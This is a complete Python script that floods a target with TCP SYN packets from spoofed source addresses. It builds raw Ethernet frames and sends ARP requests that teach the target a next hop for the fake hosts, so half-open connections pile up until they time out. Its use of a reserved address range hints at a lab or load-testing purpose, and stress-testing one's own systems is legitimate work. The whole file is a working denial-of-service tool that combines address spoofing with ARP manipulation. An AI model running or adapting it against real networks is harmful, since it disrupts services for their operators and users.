#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""SYN flood from spoofed sources, on a raw AF_PACKET socket.

Usage: synflood.py IFACE DST_IP DST_MAC DST_PORT SECONDS SRC_NET
  IFACE     the kernel's end of the link (its MAC is the frames' source)
  SRC_NET   the first three octets of the spoofed sources, e.g. 198.18.7;
            hosts .64 to .127 are used, addresses nobody owns

Before and during the flood each spoofed source sends an ARP request for
DST_IP with IFACE's MAC, so the target learns a next hop for them (RFC 826
merge) and answers every SYN: its SYN-ACKs come to IFACE's MAC for an
address the kernel does not own and are dropped there without a RST, so
the target's half-open connections stay until they time out, as with a
real flood from hosts that never answer. Prints "sent N" at the end.
"""
import random
import socket
import struct
import sys
import time

FIRST, COUNT = 64, 64            # spoofed hosts .64 .. .127
PORTS = 512                      # source ports per host: 32768 tuples


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def mac_bytes(mac):
    return bytes(int(x, 16) for x in mac.split(":"))


def arp_request(src_mac, src_ip, dst_ip):
    eth = b"\xff" * 6 + src_mac + struct.pack("!H", 0x0806)
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + src_mac + src_ip + b"\0" * 6 + dst_ip
    return eth + arp + b"\0" * 18


def syn(src_mac, dst_mac, src_ip, dst_ip, sport, dport, seq, ip_id):
    opts = struct.pack("!BBH", 2, 4, 1460)               # MSS
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (5 + 1) << 4, 0x02,
                      64240, 0, 0) + opts
    pseudo = src_ip + dst_ip + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ip_id, 0, 64, 6, 0,
                     src_ip, dst_ip)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dst_mac + src_mac + struct.pack("!H", 0x0800) + ip + tcp


def main():
    iface, dst_ip, dst_mac, dport, secs, net = sys.argv[1:7]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    src_mac = s.getsockname()[4][:6]
    dmac = mac_bytes(dst_mac)
    dip = socket.inet_aton(dst_ip)
    hosts = [socket.inet_aton("%s.%d" % (net, FIRST + i)) for i in range(COUNT)]
    arps = [arp_request(src_mac, h, dip) for h in hosts]
    rnd = random.Random(12)
    frames = [syn(src_mac, dmac, hosts[i % COUNT], dip, 20000 + i // COUNT,
                  int(dport), rnd.getrandbits(32), i & 0xFFFF)
              for i in range(COUNT * PORTS)]
    sent, end, next_arp = 0, time.monotonic() + float(secs), 0.0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        if now >= next_arp:
            for a in arps:
                s.send(a)
            next_arp = now + 1.0
        for f in frames[sent % len(frames):sent % len(frames) + 256]:
            try:
                s.send(f)
                sent += 1
            except OSError:                 # the qdisc is full: yield
                time.sleep(0.001)
    print("sent %d" % sent)


if __name__ == "__main__":
    main()
